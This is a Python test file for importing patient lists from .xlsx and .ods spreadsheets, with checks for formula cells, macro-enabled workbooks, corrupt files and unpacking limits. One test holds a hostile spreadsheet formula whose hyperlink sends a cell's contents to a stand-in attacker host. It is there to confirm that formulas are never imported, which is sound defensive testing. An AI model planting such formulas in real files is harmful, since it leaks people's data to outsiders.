"""Importing .xlsx and .ods files (issue 16, point 1), on SQLite and PostgreSQL."""

from __future__ import annotations

import pytest

from rota.domain import Risk
from rota.imports import sheets
from rota.imports.csvfile import CsvFileError, read_csv
from tests.support.patient_import import run_import, stored
from tests.support.workbooks import as_xlsm, ods, xlsx

HEADER = ["ref", "name", "phone", "risk", "calls_per_week", "zoom", "sms_consent", "notes"]


def practice_rows(count: int) -> list[list[object]]:
    """Rows as a practice's Excel file has them: phones typed as numbers (leading 0 lost),
    counts as numbers, yes/no as Excel's TRUE/FALSE."""
    rows: list[list[object]] = []
    for i in range(count):
        phone: object = 7700900000 + i if i % 2 else f"07700 900{i:03d}"
        rows.append(
            [
                f"RP{i + 1}",
                f"Patient {i}",
                phone,
                "High" if i % 3 else "low",
                1,
                i % 2 == 0,
                True,
                "",
            ]
        )
    return rows


async def test_a_practice_xlsx_imports_with_numbers_and_booleans_read_as_typed(db, now):
    result, group_id = await run_import(db, now, xlsx([HEADER, *practice_rows(120)]))
    assert result.ok, result.problems[:3]
    assert len(result.added) == 120
    patients = await stored(db, group_id)
    assert patients["RP2"].phone == "+447700900001"  # 7700900001 as a number: the 0 Excel drops
    assert patients["RP1"].phone == "+447700900000" and patients["RP1"].zoom
    assert patients["RP2"].risk == Risk.HIGH and not patients["RP2"].zoom
    assert patients["RP3"].calls_per_week == 1 and patients["RP3"].sms_consent
    again, _ = await run_import(db, now, xlsx([HEADER, *practice_rows(120)]), group_id=group_id)
    assert again.counts()["unchanged"] == 120


async def test_formula_cells_import_their_value_never_the_formula(db, now):
    rows = practice_rows(3)
    rows[0][7] = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    rows[1][7] = "=1+1"
    result, group_id = await run_import(db, now, xlsx([HEADER, *rows]))
    assert result.ok, result.problems
    notes = [p.notes for p in (await stored(db, group_id)).values()]
    # openpyxl stores no cached result, so the value a person last saw is empty
    assert all(note is None or not note.startswith("=") for note in notes)
    assert not any("HYPERLINK" in (note or "") or "1+1" in (note or "") for note in notes)


async def test_an_ods_file_imports_like_a_csv(db, now):
    result, group_id = await run_import(
        db,
        now,
        ods(
            [HEADER[:4], ["RP1", "Ann", 7700900001, "high"], ["RP2", "Bob", "07700 900002", "low"]]
        ),
    )
    assert result.ok, result.problems
    assert (await stored(db, group_id))["RP1"].phone == "+447700900001"


async def test_bad_rows_in_a_spreadsheet_name_the_row_excel_shows(db, now):
    rows = practice_rows(30)
    rows[19][3] = "severe"  # data row 20 is spreadsheet row 21
    result, group_id = await run_import(db, now, xlsx([HEADER, *rows]))
    assert [(p.row, p.message.split(":")[0]) for p in result.problems] == [(21, "risk")]
    assert await stored(db, group_id) == {}


async def test_a_macro_enabled_workbook_is_refused_and_says_how_to_save_it(db, now):
    data = as_xlsm(xlsx([HEADER, *practice_rows(3)]))
    result, group_id = await run_import(db, now, data)
    assert not result.ok and await stored(db, group_id) == {}
    [problem] = result.problems
    assert "macro-enabled workbook (.xlsm)" in problem.message
    assert ".xlsx" in problem.message


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (xlsx([HEADER, *practice_rows(3)])[:2000], "damaged"),
        (b"PK\x03\x04" + b"\x00" * 200, "damaged"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "Excel 97-2003 (.xls)"),
    ],
    ids=["truncated xlsx", "zip header only", "old xls"],
)
async def test_a_corrupt_or_unreadable_file_is_refused_clearly(sqlite_db, now, data, says):
    result, _ = await run_import(sqlite_db, now, data)
    assert not result.ok
    assert says in str(result.problems[0]) and "save it as" in str(result.problems[0])


def test_spreadsheets_keep_the_csv_row_limit():
    data = xlsx([HEADER, *practice_rows(30)])
    with pytest.raises(CsvFileError, match="more than 25 rows"):
        read_csv(data, allowed=tuple(HEADER), required=(), max_rows=25)
    assert len(read_csv(data, allowed=tuple(HEADER), required=(), max_rows=30).rows) == 30


def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_reading(monkeypatch):
    data = xlsx([HEADER, *practice_rows(200)])
    monkeypatch.setattr(sheets, "MAX_UNPACKED", 20_000)
    with pytest.raises(CsvFileError, match="unpacks to more than"):
        read_csv(data, allowed=tuple(HEADER), required=())
